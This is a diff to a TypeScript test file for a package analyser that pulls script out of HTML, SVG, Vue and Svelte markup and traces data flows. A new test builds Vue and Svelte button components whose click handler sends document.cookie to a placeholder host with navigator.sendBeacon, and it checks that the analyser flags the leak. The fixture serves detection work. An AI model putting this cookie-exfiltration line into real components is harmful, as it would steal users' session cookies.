@@ -1,11 +1,11 @@
 import assert from 'node:assert/strict';
 import fc from 'fast-check';
 import { analysePackage } from '../../../../server/src/artifacts/analysis/analyse.js';
-import { parseCode } from '../../../../server/src/artifacts/analysis/code/package/parse.js';
+import { plainCode } from '../../../../server/src/artifacts/analysis/code/package/parse.js';
 import { codeInMarkup, isMarkup } from '../../../../server/src/artifacts/analysis/markup/markup-code.js';
 import { packageOf } from '../../../support/artifacts.js';
 
-const code = (text: string): string => codeInMarkup(text, (one) => parseCode(one) !== undefined);
+const code = (text: string): string => codeInMarkup(text, plainCode);
 /** As a reader sees it: without what is blank. */
 const dense = (text: string): string => code(text).replace(/\s+/g, ' ').trim();
 
@@ -17,12 +17,17 @@ describe('the code of a page', () => {
     ['handlers with entities', '<body onload="&#102;&lpar;&rpar;">', '{f()}'],
     ['addresses that are code', '<a href="javascript:f()">x</a><iframe src=" javascript:g()">', '{f()} {g()}'],
     ['pictures', '<svg><script><![CDATA[ f() ]]></script><svg:script>g()</svg:script></svg>', '; f() ;g()'],
+    [
+      'components in TypeScript',
+      '<template><p/></template>\n<script setup lang="ts">\nf(1 as number)\n</script>',
+      '; f(1 )',
+    ],
     ['a script that is never closed', '<script>f()', ';f()'],
   ];
   for (const [what, page, expected] of pages)
     it(`is that of ${what}`, () => {
       assert.equal(dense(page), expected);
-      assert.ok(parseCode(code(page)) !== undefined);
+      assert.ok(plainCode(code(page), false) !== undefined);
     });
 
   it('is none of data, of templates, of comments, and of scripts from elsewhere', () => {
@@ -48,6 +53,29 @@ describe('the code of a page', () => {
         assert.ok(code(page).split('\n').length <= before);
       }),
     );
+  });
+
+  it('is that of components, which are imported like modules', () => {
+    const send = `await navigator.sendBeacon('https://collect.invalid', document.cookie as string);`;
+    for (const [name, component] of [
+      [
+        'Button.vue',
+        `<template><button @click="copy" /></template>\n<script setup lang="ts">\nimport { ref } from 'vue';\nconst props = defineProps<{ text: string }>();\nasync function copy(): Promise<void> { ${send} }\n</script>`,
+      ],
+      [
+        'Button.svelte',
+        `<script lang="ts">\nexport let text: string;\nasync function copy() { ${send} }\n</script>\n<button on:click={copy}>{text}</button>`,
+      ],
+    ] as const) {
+      const { flows } = analysePackage(
+        packageOf({
+          'index.js': `import Button from './${name}';\nexport default { install: (app) => app.component('Button', Button) };`,
+          [name]: component,
+        }),
+      );
+      const seen = flows.map(({ source, sink, to }) => `${source}>${sink} ${to.file}`);
+      assert.deepEqual(seen, [`page-storage>network ${name}`]);
+    }
   });
 
   it('is analysed like a file of JavaScript that something calls', () => {
